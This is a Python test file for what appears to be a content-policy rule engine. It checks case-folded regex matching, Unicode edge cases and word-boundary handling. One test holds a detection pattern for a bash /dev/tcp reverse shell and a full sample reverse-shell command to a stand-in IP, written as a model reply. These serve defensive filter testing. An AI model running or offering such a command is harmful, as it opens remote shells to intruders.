"""Rule patterns searched case-sensitively in lower-cased text find exactly what the case-insensitive ones find."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from service.policy.casefold import fold, lowered
from service.policy.loader import load_policies
from service.policy.model import RulePattern

SHIPPED = sorted(
    {
        p
        for policy in load_policies().policies.values()
        for rule in policy.rules
        for p in (*rule.match.patterns, *rule.match.all_of, *rule.match.unless, *rule.match.unless_in_sentence, *rule.match.prompt_patterns, *rule.match.prompt_all_of, *rule.match.either_all_of)
    }
)
# Text built from the shipped patterns' own words, in mixed case, with the characters case folding gets wrong
# if handled naively: the Kelvin sign, dotted and dotless i, long s, sharp s, and other non-ASCII letters.
_WORDS = sorted({w for p in SHIPPED for w in re.findall(r"[A-Za-z]{3,}", p)})
_ODD = ["\u212a", "\u0130", "\u0131", "\u017f", "ß", "É", "é", "’", "—", "\n", " ", ".", "-", "1", "/", ">&", "_", "²"]


@st.composite
def texts(draw: st.DrawFn) -> str:
    parts = draw(st.lists(st.one_of(st.sampled_from(_WORDS), st.sampled_from(_ODD), st.text(max_size=4)), max_size=40))
    flips = draw(st.lists(st.booleans(), min_size=len(parts), max_size=len(parts)))
    return "".join(p.upper() if f else p for p, f in zip(parts, flips, strict=True))


def test_every_shipped_pattern_has_a_case_sensitive_twin() -> None:
    assert SHIPPED
    assert [p for p in SHIPPED if fold(p, re.MULTILINE) is None] == []


# and constructs the shipped policies do not use yet: negated classes, word classes, classes of capitals
# (repeats bounded: a broad unbounded repeat runs on the time-limited engine instead, ``service.policy.bounds``)
EXTRA = [r"[^a-z]{1,40}", r"\bk\w{1,40}", r"s[^\W\d]i", r"[A-Z][a-z]{1,40}\b", r"(?:STR|ss)\S{0,3}e", r"\Bi\B", r"[K-S]{1,40}"]
# and leading word boundaries the boundary-free search must handle: digits, underscores, optional or empty first
# parts, a non-word first character, alternations that share a first letter
EXTRA += [
    r"\b\d+\s*mg",
    r"\b(_?ss|\d)",
    r"\b(?:x|)ss",
    r"\b-?\d",
    r"\b[^a]s",
    r"\bs*e",
    r"\b(se|s)\b",
    r"\b(?:[a-e]|[0-9_])k",
]


@settings(max_examples=300, deadline=None)
@given(texts())
def test_twins_find_the_same_spans_as_the_case_insensitive_patterns(text: str) -> None:
    low = lowered(text)
    for source in SHIPPED + EXTRA:
        pattern = RulePattern.compile(source)
        expected = pattern.ignorecase.search(text)
        got = pattern.search(text, low)
        assert (got.span() if got else None) == (expected.span() if expected else None), (source, text)


def test_a_match_is_found_whatever_the_case_and_points_into_the_original_text() -> None:
    pattern = RulePattern.compile(r"bash\s+-i\s*>&\s*/dev/tcp/")
    text = "Sure: BaSh -I >& /DEV/tcp/203.0.113.5/4444 0>&1"
    m = pattern.search(text, lowered(text))
    assert m is not None and text[m.start() : m.end()] == "BaSh -I >& /DEV/tcp/"


def test_patterns_that_cannot_be_folded_keep_the_case_insensitive_search() -> None:
    # an upper-case letter written as an escape, a range that lower-casing would change, case-sensitivity
    # switched back on, a non-ASCII letter
    for source in (r"\x41BC", r"[A-z]{3}\d", r"[0-Z]", r"(?-i:Ab)c", r"caf\u00e9", "café"):
        assert fold(source, re.MULTILINE) is None, source
        assert RulePattern.compile(source).folded is None
    assert RulePattern.compile(r"[A-z]").search("_", lowered("_")) is not None
    assert RulePattern.compile(r"\x41BC").search("abc", lowered("abc")) is not None
    # a range of capitals is a range of letters either way
    assert fold(r"[A-Z]{3}\d", re.MULTILINE) is not None
    assert RulePattern.compile(r"[A-Z]{3}\d").search("abc1", lowered("abc1")) is not None


def test_text_that_lowering_would_misalign_is_not_lowered() -> None:
    assert lowered("İstanbul") is None  # one character lowers to two: offsets would shift
    assert lowered("ıkıp") is None  # dotless i: IGNORECASE treats it as "i", str.lower() does not
    assert lowered("Straße") == "straße"
    assert lowered("ABC") == "abc"


def test_most_shipped_patterns_are_searched_without_their_leading_boundary() -> None:
    compiled = [RulePattern.compile(p) for p in SHIPPED]
    with_tail = [p for p in compiled if p.tail is not None]
    assert len(with_tail) >= 0.75 * len([p for p in compiled if p.folded is not None and p.folded.pattern[:2] == "\\b"])
    # and only where the rest always starts with a word character
    assert RulePattern.compile(r"\b-?\d").tail is None
    assert RulePattern.compile(r"\b(?:x|)ss").tail is None
    assert RulePattern.compile(r"\b\d+\s*mg").tail is not None


def test_the_boundary_free_search_skips_matches_inside_words() -> None:
    pattern = RulePattern.compile(r"\b(cures?|dose)\b")
    for text, span in [
        ("It CURES cancer", (3, 8)),
        ("secures the overdose; a_dose; 2dose", None),
        ("overdose then dose", (14, 18)),
        ("é-dose", (2, 6)),
        ("édose", None),
    ]:
        m = pattern.search(text, lowered(text))
        assert (m.span() if m else None) == span, text
